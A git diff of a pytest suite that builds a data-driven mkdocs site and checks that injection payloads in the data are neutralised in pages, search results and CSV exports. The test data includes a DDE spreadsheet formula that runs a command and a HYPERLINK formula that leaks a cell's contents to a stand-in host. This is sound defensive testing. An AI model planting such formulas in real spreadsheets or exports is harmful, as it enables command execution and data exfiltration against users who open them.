@@ -26,7 +26,7 @@ from pathlib import Path
 
 import pytest
 from conftest import CHROMIUM, CHROMIUM_FLAGS, _QuietHandler
-from payloads import PAYLOAD, XSS, expected_after, poison
+from payloads import PAYLOAD, PAYLOADS, XSS, expected_after, poison
 
 from il12_evidence import __main__ as cli
 from il12_evidence.checks import Finding
@@ -43,6 +43,12 @@ MARKER = re.compile(r"⟦[^⟧]+⟧")
 # on the canonical build). Anything else named on* came from data.
 MATERIAL_HANDLERS: set[tuple[str, str]] = set()
 URL_ATTRIBUTES = ("href", "src", "srcset", "action", "formaction", "xlink:href", "poster", "data")
+# The mkdocs command line, its heavy imports done before it reads a line from stdin and builds.
+PREWARMED_MKDOCS = (
+    "import sys, mkdocs.__main__, mkdocs.commands.build, mkdocs_jupyter.plugin, material.plugins.search.plugin, "
+    "il12_evidence.site, il12_evidence.tooltips, il12_evidence.validation, scipy.stats; "
+    "sys.stdin.readline(); sys.argv[0] = 'mkdocs'; mkdocs.__main__.cli()"
+)
 # A formula that survives into the figure CSVs when a group name is cut out of an arm ("SERIES, GROUP").
 FORMULA = "=cmd|' /C calc'!A0"
 
@@ -77,23 +83,43 @@ def poisoned(tmp_path_factory):
         "NO_MKDOCS_2_WARNING": "1",
         "PYDEVD_DISABLE_FILE_VALIDATION": "1",
     }
-    if not problems:
-        _execute_in_two_kernels(sources, notebooks, env)
     site = work / "site"
-    build = subprocess.run(
-        [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(ROOT / "mkdocs.yml"), "--site-dir", str(site)],
-        capture_output=True,
+    # `mkdocs build --strict`, started now so that its imports overlap the notebooks' execution;
+    # it builds once told to. Its cwd holds mkdocs-jupyter's cache (.cache/), not the project.
+    build = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            PREWARMED_MKDOCS,
+            "build",
+            "--strict",
+            "-f",
+            str(ROOT / "mkdocs.yml"),
+            "--site-dir",
+            str(site),
+        ],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
         text=True,
-        cwd=work,  # mkdocs-jupyter's cache (.cache/) goes here, not into the project
+        cwd=work,
         env=env,
     )
+    try:
+        if not problems:
+            _execute_in_two_kernels(sources, notebooks, env)
+    except BaseException:
+        build.kill()
+        build.communicate()
+        raise
+    stdout, stderr = build.communicate("build\n")
     return {
         "data": data,
         "digest": digest,
         "problems": problems,
         "report": report,
         "site": site,
-        "build": build,
+        "build": subprocess.CompletedProcess(build.args, build.returncode, stdout, stderr),
     }
 
 
@@ -114,15 +140,25 @@ def _formula_in_grouped_arms(data: Path) -> None:
     path.write_text(buffer.getvalue(), encoding="utf-8")
 
 
+FIGURE_CALL = re.compile(r"\bpage\.(?:forest|stated_rates|grouped_rates|evidence_matrix|references_by_year|dosing)\(")
+
+
 def _execute_in_two_kernels(sources: list[Path], target: Path, env: dict) -> None:
-    """Two kernels (one per core), each executing half of the notebooks one after another."""
-    halves = [sources[0::2], sources[1::2]]
+    """Two kernels (one per core), each executing its share of the notebooks one after another.
+
+    Drawing figures is most of the work: the shares are balanced by figures drawn (heaviest first)."""
+    halves: list[list[Path]] = [[], []]
+    load = [0, 0]
+    for source in sorted(sources, key=lambda s: -len(FIGURE_CALL.findall(s.read_text(encoding="utf-8")))):
+        lighter = load.index(min(load))
+        halves[lighter].append(source)
+        load[lighter] += 1 + 2 * len(FIGURE_CALL.findall(source.read_text(encoding="utf-8")))
     errors: list[BaseException] = []
 
     def run(half):
         try:
             execute_together(half, target, env=env)
-        except BaseException as error:  # noqa: BLE001 — reported by the main thread
+        except BaseException as error:  # reported by the main thread
             errors.append(error)
 
     threads = [threading.Thread(target=run, args=(half,)) for half in halves if half]
@@ -220,21 +256,25 @@ def _whole(text: str) -> bool:
 
 
 # --- in the browser ----------------------------------------------------------------------------------
-# The site script shows a tooltip once claims.json is loaded (a promise): wait for the first one,
-# then a few microtasks per number are enough. Hover and keyboard focus both open it.
+# The site script shows a tooltip once claims.json is fetched (a promise): after the first hover,
+# wait while that fetch is under way (not at all if the script fetches nothing), then a few
+# microtasks per number are enough. Hover and keyboard focus both open it.
 BROWSE = """async () => {
   const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
   const settle = async () => { for (let i = 0; i < 4; i++) { await null; } };
   const shown = () => { const tip = document.getElementById("claim-tip"); return tip && !tip.hidden ? tip : null; };
+  let fetching = false;
+  const fetch = window.fetch;
+  window.fetch = function (...args) { fetching = true; return fetch.apply(this, args); };
   document.querySelectorAll("details").forEach((d) => { d.open = true; });
   const tips = [];
   const links = Array.from(document.querySelectorAll("a.claim-link"));
   if (links.length) {
     links[0].dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
-    for (let waited = 0; waited < 1000 && !shown(); waited += 20) { await sleep(20); }
+    for (let waited = 0; (fetching || waited < 100) && waited < 5000 && !shown(); waited += 20) { await sleep(20); }
   }
   for (const link of links) {
-    for (const open of [() => link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true })), () => link.focus()]) {
+    for (const open of [() => link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true })), () => link.focus({ preventScroll: true })]) {
       open();
       await settle();
       const tip = shown();
@@ -300,8 +340,9 @@ def browse(site: Path, *, tabs: int = 3) -> dict[str, dict]:
             page = await context.new_page()
             errors = []
             page.on("pageerror", lambda error: errors.append(str(error)))
-            await page.goto(f"{server}/{path}", wait_until="load")
-            search = await _search(page, "onerror") if path == "" else ""
+            # On the home page, ?q= makes Material run a search on load (it reads the query from the URL).
+            await page.goto(f"{server}/{path}" + ("?q=onerror" if path == "" else ""), wait_until="load")
+            search = await _search_results(page) if path == "" else ""
             tips = await page.evaluate(BROWSE)
             result = await page.evaluate(INSPECT, [list(URL_ATTRIBUTES)])
             result["tips"], result["errors"], result["search"] = tips, errors, search
@@ -323,11 +364,9 @@ def browse(site: Path, *, tabs: int = 3) -> dict[str, dict]:
         httpd.shutdown()
 
 
-async def _search(page, query: str) -> str:
-    """Type into Material's search and wait for its results (rendered from the search index)."""
-    await page.keyboard.press("/")
-    await page.fill("input.md-search__input", query)
-    await page.wait_for_selector(".md-search-result__item", state="attached", timeout=10_000)
+async def _search_results(page) -> str:
+    """The text of Material's search results (rendered from the search index by its script)."""
+    await page.wait_for_selector(".md-search-result__item", state="attached", timeout=15_000)
     return await page.text_content(".md-search-result__list") or ""
 
 
@@ -356,11 +395,13 @@ def test_payloads_read_as_whole_text_where_their_field_is_shown(browsed):
 def test_payloads_reach_every_page_that_shows_data(browsed):
     """The test covers what it claims: markers are read on every page built from data."""
     shown = {path: {m.group(0) for m in MARKER.finditer(r["text"])} for path, r in browsed.items()}
-    empty = [path for path, markers in shown.items() if not markers and path not in ("404.html", "search/")]
+    empty = [path for path, markers in shown.items() if not markers]
     assert empty == []
-    everywhere = set().union(*shown.values())
+    everywhere = {marker.strip("⟦⟧").rpartition("#") for marker in set().union(*shown.values())}
+    fields = {field for field, _, _ in everywhere}
     for field in ("claims.note", "claims.arm", "studies.label", "findings.explanation", "primary-sources.note"):
-        assert f"⟦{field}⟧" in everywhere, field
+        assert field in fields, field
+    assert {variant for _, _, variant in everywhere} >= {"all", *map(str, range(len(PAYLOADS)))}
     assert MARKER.search(browsed["/"]["search"]), "the search found no payload"
 
 
@@ -422,7 +463,7 @@ def test_audit_csv_neutralises_a_formula_in_a_finding(monkeypatch, capsys):
         status="-failed",
         severity="error",
         explanation=f'=HYPERLINK("https://example.org/?leak="&A1,"{PAYLOAD}")\r{FORMULA}',
-        fragment="\tfragment",
+        fragment=f"\tfragment\r{FORMULA}",
         mark="\rfailed",
         conventions=("=half-up",),
     )
